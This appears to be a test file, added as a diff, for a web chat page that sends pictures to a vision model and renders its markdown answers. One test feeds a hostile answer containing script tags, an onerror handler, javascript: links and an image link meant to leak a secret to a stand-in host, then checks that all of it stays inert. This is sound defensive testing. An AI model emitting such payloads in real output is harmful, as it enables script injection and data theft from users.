@@ -1,0 +1,560 @@
+"""The web page in headless Chromium: what a person does with it, and what a hostile answer must not do to it.
+
+Every test also holds that nothing was logged as an error, that the content policy was never violated, and that
+no request left for another origin.
+"""
+
+from __future__ import annotations
+
+import base64
+import io
+import json
+import random
+import re
+import shutil
+import threading
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from PIL import Image
+
+from tessera.cli.tokens import PIXTRAL_12B
+from tessera.images import grid_of
+from tests.server.stand_in import KEY, StandIn
+
+playwright = pytest.importorskip("playwright.sync_api", reason="the dev extra's playwright is not installed")
+CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
+pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine; Debian's package is `chromium`")
+
+expect = playwright.expect
+WATCH = """
+document.addEventListener("securitypolicyviolation", (event) =>
+  console.error("policy violated:", event.violatedDirective, event.blockedURI));
+"""
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Any]:
+    with playwright.sync_playwright() as driver:
+        browser = driver.chromium.launch(executable_path=CHROMIUM)
+        yield browser
+        browser.close()
+
+
+@pytest.fixture
+def server() -> Iterator[StandIn]:
+    server = StandIn()
+    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
+    thread.start()
+    yield server
+    server.go_on.set()
+    server.shutdown()
+    thread.join()
+    server.server_close()
+
+
+@pytest.fixture
+def open_page(browser: Any, server: StandIn) -> Iterator[Callable[..., Any]]:
+    """Opens the page; at the end, looks at what it did behind the test's back."""
+    contexts: list[Any] = []
+    faults: list[str] = []
+
+    def note(message: Any) -> None:
+        # Chromium itself logs each refused request; the tests of refusals look at the page instead.
+        if message.type in ("error", "warning") and "Failed to load resource" not in message.text:
+            faults.append(message.text)
+
+    def note_request(request: Any) -> None:
+        if not request.url.startswith((server.origin, "data:", "blob:")):
+            faults.append(f"a request to {request.url}")
+
+    def open_page(**options: Any) -> Any:
+        context = browser.new_context(**{"viewport": {"width": 1000, "height": 760}, **options})
+        contexts.append(context)
+        context.set_default_timeout(10_000)
+        context.add_init_script(WATCH)
+        page = context.new_page()
+        page.on("console", note)
+        page.on("pageerror", lambda error: faults.append(str(error)))
+        page.on("request", note_request)
+        page.goto(server.origin)
+        return page
+
+    yield open_page
+    for context in contexts:
+        context.close()
+    assert not faults
+
+
+@pytest.fixture
+def page(open_page: Callable[..., Any]) -> Any:
+    page = open_page()
+    expect(page.locator("#model-name")).to_have_text("pixtral")
+    return page
+
+
+def picture(width: int = 1920, height: int = 1080, name: str = "chart.png", **options: Any) -> dict[str, Any]:
+    """A file as Playwright's choosers take it."""
+    data = io.BytesIO()
+    Image.new("RGB", (width, height), "steelblue").save(data, Path(name).suffix[1:].replace("jpg", "jpeg"), **options)
+    return {"name": name, "mimeType": "image/" + Path(name).suffix[1:], "buffer": data.getvalue()}
+
+
+def ask(page: Any, text: str) -> None:
+    page.get_by_label("Your question").fill(text)
+    page.keyboard.press("Enter")
+
+
+def answer(page: Any) -> Any:
+    """The last answer, once it is complete."""
+    last = page.locator(".answer").last
+    expect(last).not_to_have_attribute("aria-busy", "true")
+    return last
+
+
+# ---- pictures
+
+
+def test_uploaded_pictures_show_their_cost_and_can_be_removed(page: Any) -> None:
+    page.locator("#files").set_input_files([picture(), picture(208, 230, "receipt.png")])
+    expect(page.locator("#pending .cost")).to_have_text(["2,340 tokens", "210 tokens"])
+    expect(page.locator("#budget")).to_have_text("2,550 of 131,072 tokens, without new text")
+    page.get_by_role("button", name="Remove chart.png").click()
+    expect(page.locator("#pending .cost")).to_have_text(["210 tokens"])
+    expect(page.get_by_role("button", name="Remove receipt.png")).to_be_focused()
+
+
+def test_the_grid_is_the_models_own(page: Any) -> None:
+    generator = random.Random(1)
+    sizes = [(1, 1), (1, 9000), (9000, 1), (1025, 1024), (2048, 1025), (1040, 8), (16, 16), (17, 16), (4096, 2050)]
+    sizes += [(generator.randint(1, 6000), generator.randint(1, 6000)) for _ in range(2000)]
+    script = """async ([sizes, config]) => {
+        const { gridOf } = await import("/web/pictures.js");
+        return sizes.map(([width, height]) => gridOf(width, height, config)).map(({rows, columns}) => [rows, columns]);
+    }"""
+    config = {"image_size": 1024, "patch_size": 16, "spatial_merge_size": 1}
+    grids = page.evaluate(script, [sizes, config])
+    assert [tuple(grid) for grid in grids] == [grid_of(*size, PIXTRAL_12B) for size in sizes]
+
+
+def test_the_patch_grid_is_drawn_on_demand(page: Any) -> None:
+    page.locator("#files").set_input_files(picture())
+    page.get_by_role("button", name="show with its patch grid").click()
+    facts = "1,920 × 1,080 pixels, read as 1,024 × 576, scaled down: 36 rows × (64 patches + 1) = 2,340 tokens."
+    expect(page.locator("#viewer-facts")).to_have_text(facts)
+    painted = """canvas => new Set(canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height).data).size"""
+    assert page.locator("#viewer canvas.grid").evaluate(painted) > 1
+    page.get_by_role("checkbox", name="Patch grid").uncheck()
+    expect(page.locator("#viewer canvas.grid")).to_be_hidden()
+    page.keyboard.press("Escape")
+    expect(page.locator("#viewer")).to_be_hidden()
+
+
+def test_a_photograph_is_shown_upright(page: Any) -> None:
+    exif = Image.Exif()
+    exif[0x0112] = 6  # the camera was turned: 300 x 100 is meant as 100 x 300
+    page.locator("#camera").set_input_files(picture(300, 100, "photo.jpg", exif=exif))
+    expect(page.locator("#pending .cost")).to_have_text(f"{19 * (7 + 1)} tokens")
+
+
+@pytest.mark.parametrize("event", ["paste", "drop"])
+def test_pasted_and_dropped_pictures_are_taken(page: Any, event: str) -> None:
+    script = """([event, data]) => {
+        const bytes = Uint8Array.from(atob(data), (character) => character.charCodeAt(0));
+        const files = new DataTransfer();
+        files.items.add(new File([bytes], "one.png", { type: "image/png" }));
+        const options = { bubbles: true, cancelable: true, clipboardData: files, dataTransfer: files };
+        const made = event === "paste" ? new ClipboardEvent(event, options) : new DragEvent(event, options);
+        document.querySelector("#question").dispatchEvent(made);
+    }"""
+    page.evaluate(script, [event, base64.b64encode(picture(64, 32)["buffer"]).decode()])
+    expect(page.locator("#pending .cost")).to_have_text("10 tokens")
+
+
+def test_what_is_no_picture_or_too_much_is_refused_by_name(page: Any, server: StandIn) -> None:
+    page.locator("#files").set_input_files({"name": "notes.txt", "mimeType": "text/plain", "buffer": b"hello"})
+    expect(page.locator("#problem")).to_contain_text("notes.txt is not a picture")
+    page.locator("#files").set_input_files([picture(16, 16, f"{number}.png") for number in range(9)])
+    expect(page.locator("#problem")).to_contain_text("8 pictures")
+    expect(page.locator("#pending .picture")).to_have_count(8)
+    server.config["max_image_bytes"] = 60
+    page.reload()
+    page.locator("#files").set_input_files(picture(64, 64, "heavy.png"))
+    expect(page.locator("#problem")).to_contain_text("heavy.png has")
+
+
+def test_pictures_that_the_browser_cannot_show_are_sent_all_the_same(page: Any, server: StandIn) -> None:
+    page.locator("#files").set_input_files(picture(64, 64, "scan.tiff"))
+    expect(page.locator("#pending .cost")).to_have_text("not shown here")
+    ask(page, "What is this?")
+    answer(page)
+    assert server.requests[0]["messages"][0]["content"][0]["type"] == "image_url"
+
+
+# ---- asking
+
+
+def test_an_answer_streams_and_the_request_is_whole(page: Any, server: StandIn) -> None:
+    chart = picture()
+    page.locator("#files").set_input_files(chart)
+    ask(page, "paused total?")
+    expect(page.locator(".answer .body")).to_have_text("The total is")
+    expect(page.locator(".answer")).to_have_attribute("aria-busy", "true")
+    server.go_on.set()
+    expect(answer(page).locator(".body")).to_have_text("The total is 15.00 €.")
+    expect(page.locator(".answer strong")).to_have_text("15.00")
+    facts = page.locator(".facts")
+    expect(facts).to_contain_text("prompt 4,180 (4,160 of pictures, 16 cached) · reply 15 tokens · first after")
+    expect(facts).to_contain_text("tokens/s")
+    expect(page.locator("#budget")).to_have_text("4,195 of 131,072 tokens, without new text")
+    url = "data:image/png;base64," + base64.b64encode(chart["buffer"]).decode()
+    content = [{"type": "image_url", "image_url": {"url": url}}, {"type": "text", "text": "paused total?"}]
+    assert server.requests == [
+        {
+            "model": "pixtral", "messages": [{"role": "user", "content": content}], "temperature": 0, "stream": True,
+            "stream_options": {"include_usage": True}, "logprobs": True, "top_logprobs": 5, "max_tokens": 1024,
+        }
+    ]  # fmt: skip
+
+
+def test_pictures_stay_in_the_conversation_until_a_new_one(page: Any, server: StandIn) -> None:
+    page.locator("#files").set_input_files(picture(32, 32))
+    ask(page, "First?")
+    answer(page)
+    ask(page, "Second?")
+    expect(page.locator(".answer")).to_have_count(2)
+    answer(page)
+    messages = server.requests[1]["messages"]
+    assert [message["role"] for message in messages] == ["user", "assistant", "user"]
+    assert [part["type"] for part in messages[0]["content"]] == ["image_url", "text"]
+    assert messages[1]["content"] == "The total is **15.00** €."
+    page.get_by_role("button", name="New conversation").click()
+    expect(page.locator(".exchange")).to_have_count(0)
+    expect(page.locator("#welcome")).to_be_visible()
+    ask(page, "Third?")
+    answer(page)
+    assert [message["role"] for message in server.requests[2]["messages"]] == ["user"]
+
+
+def test_shift_enter_makes_a_line_and_an_empty_question_is_not_sent(page: Any, server: StandIn) -> None:
+    field = page.get_by_label("Your question")
+    field.press("Enter")
+    field.type("one")
+    field.press("Shift+Enter")
+    field.type("two")
+    expect(field).to_have_value("one\ntwo")
+    field.press("Enter")
+    answer(page)
+    assert [request["messages"][0]["content"][-1]["text"] for request in server.requests] == ["one\ntwo"]
+
+
+@pytest.mark.parametrize("how", ["button", "escape"])
+def test_stopping_keeps_what_was_written_and_leaves_the_server(page: Any, server: StandIn, how: str) -> None:
+    ask(page, "slow")
+    expect(page.locator(".answer .body")).to_contain_text("tick tick")
+    page.get_by_role("button", name="Stop").click() if how == "button" else page.keyboard.press("Escape")
+    expect(answer(page).locator(".facts")).to_contain_text("stopped")
+    expect(page.get_by_role("button", name="Send")).to_be_visible()
+    expect(page.get_by_role("alert").filter(has_text=re.compile("."))).to_have_count(0)
+    assert server.left.wait(5)
+    ask(page, "next")
+    answer(page)
+    assert server.requests[1]["messages"][1]["content"].startswith("tick tick")
+
+
+def test_stopping_before_the_first_word_gives_the_question_back(page: Any) -> None:
+    page.locator("#files").set_input_files(picture(32, 32))
+    ask(page, "silent please")
+    expect(page.locator(".waiting")).to_be_visible()
+    page.keyboard.press("Escape")
+    expect(page.get_by_label("Your question")).to_have_value("silent please")
+    expect(page.locator("#pending .picture")).to_have_count(1)
+    expect(page.locator(".exchange")).to_have_count(0)
+
+
+# ---- errors
+
+
+@pytest.mark.parametrize(
+    ("word", "sentence"),
+    [
+        ("busy", "The server is busy. Too many requests are waiting. Try again in 7 s."),
+        ("large", "is too large for this server; remove a picture or send a smaller one. The limit is 64 MB."),
+        ("failing", "The engine has stopped."),
+    ],
+)
+def test_a_refused_question_says_why_and_goes_back_into_the_field(page: Any, word: str, sentence: str) -> None:
+    page.locator("#files").set_input_files(picture(32, 32))
+    ask(page, f"{word} question")
+    expect(page.locator("#problem")).to_contain_text(sentence)
+    expect(page.get_by_label("Your question")).to_have_value(f"{word} question")
+    expect(page.locator("#pending .picture")).to_have_count(1)
+    ask(page, "again")
+    answer(page)
+    expect(page.locator("#problem")).to_be_empty()
+
+
+def test_an_empty_answer_is_no_part_of_the_conversation(page: Any, server: StandIn) -> None:
+    server.answers["nothing"] = ""
+    ask(page, "nothing at all")
+    expect(page.locator("#problem")).to_contain_text("ended without a word")
+    expect(page.get_by_label("Your question")).to_have_value("nothing at all")
+    ask(page, "total?")
+    answer(page)
+    assert len(server.requests[1]["messages"]) == 1
+
+
+@pytest.mark.parametrize(
+    ("word", "sentence"),
+    [("midway", "The server failed midway: The engine ran dry."), ("cut", "The connection ended before the answer")],
+)
+def test_an_answer_that_breaks_off_stays_and_says_so(page: Any, word: str, sentence: str) -> None:
+    ask(page, f"{word} question")
+    expect(answer(page).locator(".body")).to_have_text("The total is")
+    expect(answer(page).get_by_role("alert")).to_contain_text(sentence)
+
+
+def test_a_server_that_is_gone_is_named(page: Any) -> None:
+    page.context.set_offline(True)
+    ask(page, "anybody?")
+    expect(page.locator("#problem")).to_contain_text("The server cannot be reached")
+    page.context.set_offline(False)
+
+
+def test_a_server_that_comes_later_is_found_by_the_next_question(page: Any, server: StandIn) -> None:
+    page.route("**/web/config.json", lambda route: route.abort())
+    page.reload()
+    expect(page.locator("#problem")).to_contain_text("The server cannot be reached")
+    page.unroute("**/web/config.json")
+    ask(page, "total?")
+    answer(page)
+    expect(page.locator("#problem")).to_be_empty()
+
+
+def test_a_key_is_asked_for_kept_for_the_tab_and_sent(open_page: Callable[..., Any], server: StandIn) -> None:
+    server.config["needs_key"] = True
+    page = open_page()
+    field = page.get_by_label("This server asks for an API key.")
+    field.fill("a-bad-key")
+    field.press("Enter")
+    expect(page.locator("#key-error")).to_contain_text("The API key was refused.")
+    field.fill(KEY)
+    field.press("Enter")
+    expect(page.locator("#key-form")).to_be_hidden()
+    ask(page, "total?")
+    answer(page)
+    assert page.evaluate("Object.values(sessionStorage)") == [KEY]
+    assert page.evaluate("[localStorage.length, document.cookie]") == [0, ""]
+    page.evaluate("sessionStorage.setItem('tessera-api-key', 'expired')")
+    ask(page, "total?")
+    expect(field).to_be_focused()
+    expect(page.get_by_label("Your question")).to_have_value("total?")
+
+
+# ---- settings
+
+
+def test_settings_reach_the_request(page: Any, server: StandIn) -> None:
+    page.get_by_role("button", name="Settings").click()
+    page.get_by_label("System prompt").fill("Answer in one word.")
+    page.get_by_label("Temperature").fill("0,7")
+    page.get_by_label("Max tokens").fill("")
+    schema = {"type": "object", "properties": {"total": {"type": "number"}}}
+    page.get_by_label("JSON schema").fill(json.dumps(schema))
+    server.answers["json"] = '{"total": 15.00, "note": "**not** bold"}'
+    ask(page, "json please")
+    expect(answer(page).locator("pre")).to_have_text(server.answers["json"])
+    request = server.requests[0]
+    assert request["messages"][0] == {"role": "system", "content": "Answer in one word."}
+    assert request["temperature"] == 0.7
+    assert "max_tokens" not in request
+    expected = {"type": "json_schema", "json_schema": {"name": "answer", "schema": schema, "strict": True}}
+    assert request["response_format"] == expected
+
+
+def test_a_wrong_schema_is_shown_at_its_field_and_nothing_is_sent(page: Any, server: StandIn) -> None:
+    page.get_by_role("button", name="Settings").click()
+    page.get_by_label("JSON schema").fill('{"type": ')
+    page.get_by_role("button", name="Close").click()
+    ask(page, "total?")
+    expect(page.locator("#schema-error")).to_contain_text("This is not JSON")
+    expect(page.get_by_label("JSON schema")).to_be_focused()
+    expect(page.get_by_label("JSON schema")).to_have_attribute("aria-invalid", "true")
+    page.get_by_label("JSON schema").fill("[1]")
+    page.get_by_label("Temperature").fill("warm")
+    ask(page, "total?")
+    expect(page.locator("#schema-error")).to_contain_text("is an object")
+    expect(page.locator("#temperature-error")).to_contain_text("from 0 to 2")
+    assert server.requests == []
+
+
+def test_several_models_can_be_chosen_from(open_page: Callable[..., Any], server: StandIn) -> None:
+    server.models = ["pixtral", "receipts"]
+    page = open_page()
+    page.get_by_label("Model").select_option("receipts")
+    ask(page, "total?")
+    answer(page)
+    assert server.requests[0]["model"] == "receipts"
+
+
+# ---- answers
+
+HOSTILE = """# Hello <script>window.hit = 1</script>
+
+<img src=x onerror="window.hit = 2"> <b>bold?</b>
+
+[one](javascript:window.hit=3) [two](JaVa\tscript:alert(1)) [three](data:text/html,x) [four](//elsewhere.example/x)
+[five](https://safe.example/a?b=c "title") <mailto:someone@safe.example> https://bare.example/path.
+
+![secret](https://elsewhere.example/leak?q=secret) ![](javascript:window.hit=4)
+[![inner](https://elsewhere.example/p.png)](ftp://elsewhere.example/l)
+
+```html
+<script>window.hit = 5</script>
+```
+"""
+
+
+def test_hostile_markdown_stays_text(page: Any, server: StandIn) -> None:
+    server.answers["hostile"] = HOSTILE
+    ask(page, "hostile answer")
+    body = answer(page).locator(".body")
+    expect(body.locator("script, img, b, iframe, style, [onerror]")).to_have_count(0)
+    expect(body.locator("h3")).to_have_text("Hello <script>window.hit = 1</script>")
+    expect(body).to_contain_text('<img src=x onerror="window.hit = 2"> <b>bold?</b>')
+    expect(body).to_contain_text("one (javascript:window.hit=3)")
+    expect(body).to_contain_text("[picture, not loaded: secret, https://elsewhere.example/leak?q=secret]")
+    links = body.locator("a").evaluate_all("all => all.map((one) => [one.getAttribute('href'), one.rel])")
+    safe = ["https://safe.example/a?b=c", "mailto:someone@safe.example", "https://bare.example/path"]
+    assert links == [[address, "noopener noreferrer"] for address in safe]
+    assert page.evaluate("window.hit") is None
+
+
+FORMATTED = """## Receipt
+
+| item | price |
+| :--- | ----: |
+| Tea \\| milk | **2.40** |
+| Soup | 6.50 |
+
+1. first
+2. second
+   - inner *one*
+   - inner `two`
+
+> quoted
+> line
+
+file_name_here, 3*4*5 = 60, ~~gone~~, ***both***
+second line
+
+```python
+def f():
+    return "**"
+```
+"""
+
+
+def test_markdown_is_rendered(page: Any, server: StandIn) -> None:
+    server.answers["formatted"] = FORMATTED
+    ask(page, "formatted answer")
+    body = answer(page).locator(".body")
+    expect(body.locator("h4")).to_have_text("Receipt")
+    expect(body.locator("th")).to_have_text(["item", "price"])
+    expect(body.locator("td")).to_have_text(["Tea | milk", "2.40", "Soup", "6.50"])
+    expect(body.locator("td.right strong")).to_have_text("2.40")
+    expect(body.locator("ol > li")).to_have_count(2)
+    expect(body.locator("ol ul > li")).to_have_text(["inner one", "inner two"])
+    expect(body.locator("ul em")).to_have_text("one")
+    expect(body.locator("blockquote")).to_have_text("quotedline")
+    expect(body.locator("pre code")).to_have_text('def f():\n    return "**"', use_inner_text=True)
+    expect(body.locator("> p")).to_have_text("file_name_here, 3*4*5 = 60, gone, bothsecond line")
+    expect(body.locator("> p em")).to_have_text("both")
+
+
+def test_json_is_shown_to_the_letter(page: Any, server: StandIn) -> None:
+    server.answers["data"] = '{"said": "\\"so\\" *and* so\\n", "a_b_c": [1]}'
+    ask(page, "data please")
+    expect(answer(page).locator("pre code")).to_have_text(server.answers["data"])
+
+
+def test_hostile_sizes_do_not_hold_up_the_page(page: Any, server: StandIn) -> None:
+    texts = ["*" * 20_000, "[" * 20_000, "> " * 5_000 + "x", "`a" * 10_000, "- " * 3_000 + "x", "|a" * 5_000 + "\n|-|"]
+    script = """async (texts) => {
+        const { renderMarkdown } = await import("/web/markdown.js");
+        return texts.map((text) => {
+            const began = performance.now();
+            renderMarkdown(text);
+            return performance.now() - began;
+        });
+    }"""
+    assert max(page.evaluate(script, texts)) < 2000  # ms; each takes a few, quadratic or worse would take minutes
+
+
+def test_doubtful_tokens_are_seen_and_explained(page: Any) -> None:
+    ask(page, "total?")
+    toggle = answer(page).get_by_role("button", name="Probabilities, 2 doubtful")
+    toggle.click()
+    expect(toggle).to_have_attribute("aria-pressed", "true")
+    tokens = page.locator(".tokens .token")
+    text = ["The", " total", " is", " **", "1", "5", ".", "0", "0", "**", " ", "€", "."]
+    assert tokens.all_text_contents() == text
+    expect(page.locator(".tokens .unsure")).to_have_text("0")
+    expect(page.locator(".tokens .doubtful")).to_have_text("5")
+    expect(page.locator(".tokens .likely")).to_have_text([" **", "0", "€"], use_inner_text=True)  # € is 0.96 ** 3
+    expect(tokens.nth(7)).to_have_attribute("aria-label", "0, 31 %; other choices: 8, 48 %; 3, 14 %")
+    tokens.nth(7).hover()
+    expect(page.locator(".tip")).to_be_visible()
+    expect(page.locator(".tip li")).to_have_text(["848 %", "031 %", "314 %"])
+    expect(page.locator(".tip .chosen code")).to_have_text("0")
+    toggle.focus()
+    page.keyboard.press("Shift+Tab")
+    page.keyboard.press("Shift+Tab")
+    expect(tokens.nth(0)).to_be_focused()
+    page.keyboard.press("ArrowDown")
+    expect(tokens.nth(5)).to_be_focused()
+    expect(page.locator(".tip .chosen .percent")).to_have_text("56 %")
+    page.keyboard.press("ArrowDown")
+    page.keyboard.press("ArrowRight")
+    expect(tokens.nth(8)).to_be_focused()
+    toggle.click()
+    expect(answer(page).locator("strong")).to_have_text("15.00")
+
+
+def test_an_answer_is_copied_as_it_was_written(page: Any, server: StandIn) -> None:
+    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=server.origin)
+    ask(page, "total?")
+    answer(page).get_by_role("button", name="Copy").click()
+    expect(page.get_by_role("button", name="Copied")).to_be_visible()
+    assert page.evaluate("navigator.clipboard.readText()") == "The total is **15.00** €."
+
+
+# ---- the page itself
+
+
+def test_a_phone_needs_no_sideways_scrolling(open_page: Callable[..., Any], server: StandIn) -> None:
+    row = "| " + " | ".join(["a_rather_wide_column"] * 8) + " |"
+    server.answers["wide"] = f"{'x' * 400}\n\n{row}\n|{'---|' * 8}\n{row}\n\n```\n{'y' * 400}\n```\n"
+    server.models = ["mistralai/Pixtral-12B-2409", "mistralai/Pixtral-12B-2409-of-receipts-and-charts"]
+    page = open_page(viewport={"width": 360, "height": 640}, has_touch=True, is_mobile=True, color_scheme="dark")
+    expect(page.get_by_label("Model")).to_be_visible()
+    fits = "document.documentElement.scrollWidth <= innerWidth && main.scrollWidth <= main.clientWidth"
+    assert page.evaluate(fits)
+    expect(page.get_by_role("button", name="Camera")).to_be_visible()
+    page.locator("#files").set_input_files([picture(64, 64, f"{number}.png") for number in range(6)])
+    expect(page.locator("#pending .picture")).to_have_count(6)
+    assert page.evaluate(fits)
+    ask(page, "wide answer")
+    answer(page)
+    assert page.evaluate(fits)
+    page.get_by_role("button", name="Settings").click()
+    assert page.evaluate(fits)
+
+
+def test_every_control_has_a_name(page: Any) -> None:
+    page.get_by_role("button", name="Settings").click()
+    nameless = """[...document.querySelectorAll("button, input:not([hidden]), textarea, select")]
+        .filter((one) => !one.labels?.length && !one.getAttribute("aria-label") && !one.textContent.trim()).length"""
+    assert page.evaluate(nameless) == 0
